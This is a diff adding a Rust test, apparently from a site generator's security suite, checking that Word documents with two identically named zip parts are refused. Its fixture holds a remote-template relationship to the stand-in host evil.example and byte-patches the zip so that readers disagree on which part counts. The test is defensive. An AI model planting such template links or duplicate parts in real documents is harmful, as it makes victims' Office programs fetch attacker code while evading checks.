@@ -1,0 +1,71 @@
+//! The hostile-input and careless-input findings fixed in the eighteenth
+//! round.
+
+mod common;
+
+use common::office::{package, site_linking};
+use common::{message_at, tree};
+
+/// A Word document with the same relationships part twice: one with an
+/// outside template (Word fetches it on opening), one with none. The zip
+/// reader keeps one of the two, a program may open the other.
+fn docx_with_two_settings_rels(outside_first: bool) -> Vec<u8> {
+    let plain =
+        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>";
+    let remote = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
+    let (first, second) = match outside_first {
+        true => (remote, plain),
+        false => (plain, remote),
+    };
+    let document = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>";
+    let parts = [
+        ("word/document.xml", document),
+        ("word/_rels/settings.xml.rels", first),
+    ];
+    // The zip writer refuses a second part of one name: the second is
+    // written under a name of the same length, then renamed in the bytes
+    // (in its local header and in the central directory).
+    let mut bytes = package(&[parts[0], parts[1], ("word/_rels/settings.xml.relz", second)]);
+    let (from, to) = (b"settings.xml.relz", b"settings.xml.rels");
+    let mut i = 0;
+    while let Some(at) = bytes[i..].windows(from.len()).position(|w| w == from) {
+        bytes[i + at..i + at + to.len()].copy_from_slice(to);
+        i += at + to.len();
+    }
+    bytes
+}
+
+/// A document's parts were read by a zip reader that keeps the last part
+/// of each name: a `.docx` holding an outside template in the first of
+/// two `word/_rels/settings.xml.rels` was published, though a program
+/// that opens the first fetches the template. Now a document with two
+/// parts of one name, in either order, is not published (an error naming
+/// it), the previous output left as it was; the same document with the
+/// template only in a part of another name is refused for the template,
+/// and a plain one is published.
+#[test]
+fn an_office_document_with_two_parts_of_one_name_is_not_published() {
+    for outside_first in [true, false] {
+        let (site, before) =
+            site_linking("report.docx", &docx_with_two_settings_rels(outside_first));
+        let o = site.build();
+        assert_eq!(o.code, 1, "{}", o.stderr);
+        let (line, hint) = message_at(&o.stderr, "guidance/handbook/report.docx");
+        assert!(
+            line.ends_with("error: not published: cannot check what the document fetches or runs when opened, or who wrote it: it holds two parts of the same name, and programs differ on which one they open"),
+            "{line}"
+        );
+        assert!(
+            hint.starts_with("open it in the program that made it and save it again"),
+            "{hint}"
+        );
+        assert_eq!(tree(&site.out()), before, "the output changed");
+    }
+    // Not a false alarm: one part of each name is published.
+    let plain = common::office::plain_docx();
+    let (site, _) = site_linking("report.docx", &plain);
+    let o = site.build_ok();
+    assert!(!o.stderr.contains("report.docx"), "{}", o.stderr);
+    assert!(site.out().join("en/handbook/report.docx").exists());
+}
+
